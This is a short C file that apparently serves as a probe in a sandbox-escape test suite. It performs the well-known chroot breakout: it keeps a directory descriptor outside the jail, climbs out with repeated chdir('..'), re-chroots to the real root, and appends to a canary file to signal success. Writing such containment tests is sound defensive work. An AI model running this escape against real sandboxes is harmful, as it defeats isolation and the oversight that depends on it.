// The classic way out of a chroot: keep a directory above it, and climb.
#include "attack.h"

int main(void) {
    const char *canary = need("CANARY");
    if (mkdir("jail", 0700) && errno != EEXIST) return CANNOT;
    int outside = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("jail")) return verdict(-1);
    fchdir(outside);
    for (int up = 0; up < 64; up++) chdir("..");
    if (chroot(".")) return verdict(-1);
    int file = open(canary, O_WRONLY | O_APPEND);
    return verdict(file < 0 ? file : dprintf(file, "hurt\n"));
}
